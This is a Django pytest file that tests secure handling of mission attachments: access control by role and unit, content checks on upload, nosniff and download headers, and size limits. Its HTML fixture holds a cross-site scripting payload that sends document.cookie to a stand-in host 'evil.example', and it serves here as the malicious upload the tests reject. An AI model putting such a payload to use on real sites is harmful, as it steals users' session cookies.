"""Attachments: uploaded only by content, stored where no URL serves them, read under the mission's rules."""

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from citydiplomacy.missions import services
from citydiplomacy.missions.models import Attachment

PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
HTML = b"<html><body><script>document.location='http://evil.example/'+document.cookie</script></body></html>"


@pytest.fixture(autouse=True)
def private_media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "files"
    settings.PRIVATE_FILES_SENDFILE = ""
    return settings.MEDIA_ROOT


@pytest.fixture
def mission(mission_factory):
    return mission_factory()


@pytest.fixture
def attachment(mission, requester):
    return services.add_attachment(
        mission, requester, upload=SimpleUploadedFile("دعوتنامه.pdf", PDF), kind="invitation"
    )


def url(attachment):
    return reverse("missions:attachment", args=[attachment.mission_id, attachment.pk])


def test_media_url_serves_nothing(client_for, secretary, attachment):
    assert client_for(secretary).get("/media/" + attachment.file.name).status_code == 404


def test_anonymous_is_sent_to_the_login(client, attachment):
    response = client.get(url(attachment))
    assert response.status_code == 302 and "/login/" in response["Location"]


def test_requester_of_another_unit_gets_nothing(client_for, other_requester, attachment):
    assert client_for(other_requester).get(url(attachment)).status_code == 404


def test_analyst_who_does_not_read_missions_gets_nothing(client_for, analyst, attachment):
    assert client_for(analyst).get(url(attachment)).status_code == 404


def test_attachment_of_one_mission_is_not_reached_through_another(
    client_for, requester, attachment, mission_factory
):
    other = mission_factory(title="Another trip")
    response = client_for(requester).get(reverse("missions:attachment", args=[other.pk, attachment.pk]))
    assert response.status_code == 404


@pytest.mark.parametrize("who", ["requester", "secretary", "chair", "member"])
def test_readers_of_the_mission_get_the_pdf_inline_and_unsniffable(who, personas, client_for, attachment):
    response = client_for(personas[who]).get(url(attachment))
    assert response.status_code == 200
    assert b"".join(response.streaming_content) == PDF
    assert response["Content-Type"] == "application/pdf"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Disposition"].startswith("inline")
    assert "filename*=utf-8''" in response["Content-Disposition"]


def test_mission_page_links_the_view_not_the_media_url(client_for, requester, attachment):
    page = (
        client_for(requester).get(reverse("missions:detail", args=[attachment.mission_id])).content.decode()
    )
    assert url(attachment) in page and "/media/" not in page


def test_a_stored_file_that_is_not_pdf_or_image_is_a_download(client_for, requester, mission):
    """Files stored before the upload check (or a Word document) never render in the browser."""
    from django.core.files.base import ContentFile

    old = Attachment(mission=mission, kind="other", title="old")
    old.file.save("old-letter.pdf", ContentFile(HTML), save=True)
    response = client_for(requester).get(url(old))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"].startswith("attachment")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert b"".join(response.streaming_content) == HTML  # read to the end: the file is closed


@pytest.mark.parametrize(
    "mode, header, expected",
    [
        ("x-accel", "X-Accel-Redirect", "/protected-files/missions/"),
        ("x-sendfile", "X-Sendfile", "/files/missions/"),
    ],
)
def test_production_hands_the_file_to_the_web_server(
    settings, mode, header, expected, client_for, requester, attachment
):
    settings.PRIVATE_FILES_SENDFILE = mode
    response = client_for(requester).get(url(attachment))
    assert response.status_code == 200 and response.content == b""
    assert expected in response[header]
    assert response["Content-Type"] == "application/pdf"
    assert response["X-Content-Type-Options"] == "nosniff"


def test_upload_page_refuses_html_named_as_an_invitation(client_for, requester, mission, private_media):
    response = client_for(requester).post(
        reverse("missions:attach", args=[mission.pk]),
        {"kind": "invitation", "file": SimpleUploadedFile("invitation.html", HTML)},
        follow=True,
    )
    page = response.content.decode()
    assert "invitation.html" in page and "is not a PDF" in page
    assert not mission.attachments.exists()


def test_upload_page_refuses_text_named_pdf_and_accepts_a_real_pdf(client_for, requester, mission):
    client = client_for(requester)
    attach = reverse("missions:attach", args=[mission.pk])
    page = client.post(attach, {"kind": "invitation", "file": SimpleUploadedFile("letter.pdf", b"hello\n")},
                       follow=True).content.decode()  # fmt: skip
    assert "letter.pdf" in page and not mission.attachments.exists()
    client.post(attach, {"kind": "invitation", "file": SimpleUploadedFile("letter.pdf", PDF)})
    with mission.attachments.get().file.open("rb") as stored:
        assert stored.read() == PDF


def test_upload_page_refuses_a_file_over_the_limit(settings, client_for, requester, mission):
    settings.UPLOAD_MAX_BYTES = 100
    page = (
        client_for(requester)
        .post(
            reverse("missions:attach", args=[mission.pk]),
            {"kind": "invitation", "file": SimpleUploadedFile("letter.pdf", PDF + b" " * 200)},
            follow=True,
        )
        .content.decode()
    )
    assert "larger than" in page and not mission.attachments.exists()


def test_api_refuses_bad_content_with_a_clear_message_and_takes_a_pdf(client_for, requester, mission):
    client = client_for(requester)
    api = f"/api/missions/{mission.pk}/attachments/"
    bad = client.post(api, {"kind": "invitation", "file": SimpleUploadedFile("x.svg", b"<svg/>")})
    assert bad.status_code == 400
    assert "x.svg" in bad.json()["file"][0] and not mission.attachments.exists()
    good = client.post(
        api, {"kind": "invitation", "title": "letter", "file": SimpleUploadedFile("a.pdf", PDF)}
    )
    assert good.status_code == 201
    download = client.get(good.json()["url"])
    assert download["Content-Type"] == "application/pdf"
    assert b"".join(download.streaming_content) == PDF


def test_api_upload_is_refused_to_another_unit(client_for, other_requester, mission):
    response = client_for(other_requester).post(
        f"/api/missions/{mission.pk}/attachments/",
        {"kind": "other", "file": SimpleUploadedFile("a.pdf", PDF)},
    )
    assert response.status_code == 404 and not mission.attachments.exists()


def test_service_refuses_bad_content_for_every_caller(requester, mission):
    from citydiplomacy.core.errors import DomainError

    with pytest.raises(DomainError, match="not a PDF"):
        services.add_attachment(
            mission, requester, upload=SimpleUploadedFile("a.exe", b"MZ\x90"), kind="other"
        )
